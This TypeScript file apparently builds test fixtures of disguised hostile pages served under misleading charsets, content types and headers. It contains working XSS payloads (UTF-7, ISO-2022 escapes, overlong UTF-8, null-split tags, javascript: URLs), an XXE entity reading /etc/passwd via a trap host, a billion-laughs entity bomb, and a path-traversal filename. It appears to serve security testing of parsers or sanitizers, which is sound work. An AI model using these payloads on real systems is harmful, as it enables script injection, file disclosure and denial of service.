import { gzipSync } from 'node:zlib';
import { pageAround, type HostilePage } from './hostile-page';
import { armed, type PayloadTargets } from './payload';

const SCRIPT = '<script>{run}</script><img src=x onerror={run}>';
const HTML = 'text/html; charset=utf-8';

/** Bytes as they are written, each character one byte. */
const bytes = (markup: string): Buffer => Buffer.from(markup, 'latin1');

function page(
  name: string,
  contentType: string,
  body: (targets: PayloadTargets) => string | Buffer,
): HostilePage {
  return { name, headers: contentType === '' ? {} : { 'content-type': contentType }, body };
}

const inCharset = (charset: string, payload: string): HostilePage =>
  page(`charset ${charset}: ${JSON.stringify(payload)}`, `text/html; charset=${charset}`, (targets) =>
    bytes(pageAround(armed(payload, targets))),
  );

/** The page says it, not its server. */
const inMeta = (charset: string, payload: string): HostilePage =>
  page(`meta charset ${charset}: ${JSON.stringify(payload)}`, 'text/html', (targets) =>
    bytes(pageAround(armed(payload, targets)).replace('charset="utf-8"', `charset="${charset}"`)),
  );

/** A header that would make a browser ask for something else. */
const withHeader = (header: string, value: string): HostilePage => ({
  name: `header ${header}: ${value}`,
  headers: { 'content-type': HTML, [header]: value },
  body: (targets) => pageAround(armed(SCRIPT, targets)),
});

const SWALLOWED_QUOTE = '" title=" onerror={run} src=x x="';
const UTF_7 = '+ADw-script+AD4-{run}+ADw-/script+AD4-+ADw-img src+AD0-x onerror+AD0-{run}+AD4-';
const UTF_16 = (targets: PayloadTargets): Buffer =>
  Buffer.from(pageAround(armed(SCRIPT, targets)), 'utf16le');

/** The same harm in bytes that are read in another way than they seem to be. */
export const DISGUISED_PAGES: readonly HostilePage[] = [
  ...['utf-7', 'unicode-1-1-utf-7', 'UTF-7'].flatMap((name) => [inCharset(name, UTF_7), inMeta(name, UTF_7)]),
  ...['iso-2022-jp', 'iso-2022-kr', 'hz-gb-2312', 'iso-2022-cn', 'replacement'].flatMap((name) => [
    inCharset(name, `<p title="\x1b$B${SWALLOWED_QUOTE}">\x1b(B</p>${SCRIPT}`),
    inMeta(name, `<a title="\x1b(J\\" href="\x1b(Bjavascript:{run}">x</a>~{<~}img src=x onerror={run}>`),
  ]),
  ...['shift_jis', 'gb18030', 'big5', 'euc-jp', 'euc-kr', 'gbk'].map((name) =>
    inCharset(name, `<img alt="\x82${SWALLOWED_QUOTE}"><img alt="\xe3${SWALLOWED_QUOTE}">`),
  ),
  inCharset(
    'utf-8',
    '\xc0\xbcscript\xc0\xbe{run}\xc0\xbc/script\xc0\xbe\xe0\x80\xbcimg src=x onerror={run}\xe0\x80\xbe',
  ),
  inCharset('utf-8', `<img alt="\xe2${SWALLOWED_QUOTE}"><a href="\xf0\x9f\xffjavascript:{run}">x</a>`),
  inCharset('us-ascii', '\xbcscript\xbe{run}\xbc/script\xbe\xbcimg src=x onerror={run}\xbe'),
  inCharset('x-user-defined', '\xbcscript\xbe{run}\xbc/script\xbe'),
  inCharset('no-such-charset"><script>pwned(0)</script>', SCRIPT),
  inCharset(
    'utf-8',
    '<\0script>{run}</\0script><i\0mg src=x onerr\0or={run}><a href="java\0script:{run}">x</a>',
  ),
  inCharset('x-mac-cyrillic', SCRIPT),
  page('UTF-16 without a mark, said to be UTF-8', HTML, UTF_16),
  page('UTF-16 without a mark', 'text/html; charset=utf-16', UTF_16),
  page('UTF-16, big-endian by its mark', 'text/html', (targets) =>
    Buffer.concat([Buffer.from([0xff, 0xfe]), UTF_16(targets)]).swap16(),
  ),
  page('two marks', 'text/html', (targets) =>
    Buffer.concat([Buffer.from('fffeefbbbf', 'hex'), UTF_16(targets)]),
  ),
  page('half a UTF-16 page', 'text/html; charset=utf-16le', (targets) => UTF_16(targets).subarray(0, 401)),
  page('UTF-32', 'text/html; charset=utf-32', () =>
    Buffer.concat(
      [...Buffer.from('<p>x<script>pwned(0)</script>')].map((byte) => Buffer.from([byte, 0, 0, 0])),
    ),
  ),
  ...[
    'text/plain',
    'text/markdown',
    'text/xml',
    'application/xhtml+xml',
    'application/octet-stream',
    'image/svg+xml',
    'image/png',
    'application/json',
    'text/javascript',
    'text/css',
    'application/pdf',
    'multipart/x-mixed-replace; boundary=a',
    'multipart/related; boundary=a',
    'text/html, text/plain',
    'text/html; charset=utf-8; charset=utf-7',
    ';;;',
    '',
  ].map((type) => page(`page said to be “${type}”`, type, (targets) => pageAround(armed(SCRIPT, targets)))),
  page('drawing said to be a page', HTML, (targets) =>
    armed(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>',
      targets,
    ),
  ),
  page('page with a style sheet of XSLT', 'text/xml', (targets) =>
    armed(
      '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{trap}"?><!DOCTYPE x SYSTEM "{trap}"><x>&y;</x>',
      targets,
    ),
  ),
  page('entities of entities', 'application/xhtml+xml', () => entities()),
  page('an external entity', 'application/xhtml+xml', (targets) =>
    armed(
      '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "{trap}"> %y;]><html><p>&x; word',
      targets,
    ),
  ),
  page('gzip said to be a page', HTML, (targets) => gzipSync(pageAround(armed(SCRIPT, targets)))),
  page('a page behind the bytes of an image', HTML, (targets) =>
    bytes(`GIF89a/*<p>*/=1;${armed(SCRIPT, targets)}`),
  ),
  page('JavaScript and a page at once', 'text/html', (targets) =>
    armed('{run}/*<!doctype html><p>Some words.*/', targets),
  ),
  withHeader('refresh', '0;url=http://ok.invalid/'),
  withHeader(
    'link',
    '<http://ok.invalid/a.css>; rel=stylesheet, <http://ok.invalid/a.js>; rel=preload; as=script',
  ),
  withHeader('content-security-policy', "default-src 'none'; report-uri http://ok.invalid/"),
  withHeader('report-to', '{"group":"a","max_age":9,"endpoints":[{"url":"http://ok.invalid/"}]}'),
  withHeader('nel', '{"report_to":"a","max_age":9,"success_fraction":1}'),
  withHeader('content-location', 'http://ok.invalid/'),
  withHeader('content-disposition', 'attachment; filename="../../../evil.html"'),
  withHeader('content-base', 'javascript:pwned(0)'),
  withHeader('clear-site-data', '"*"'),
  withHeader('set-cookie', 'a=b; Max-Age=99999999'),
  withHeader('x-dns-prefetch-control', 'on'),
  withHeader('alt-svc', 'h2="ok.invalid:443"; ma=99999'),
];

/** A billion words from ten lines, for those that replace entities. */
function entities(): string {
  const lines = Array.from({ length: 9 }, (_, line) => `<!ENTITY e${line + 1} "${`&e${line};`.repeat(10)}">`);
  return `<!DOCTYPE html [<!ENTITY e0 "word ">${lines.join('')}]><html><body><p>&e9; and a word</p></body></html>`;
}
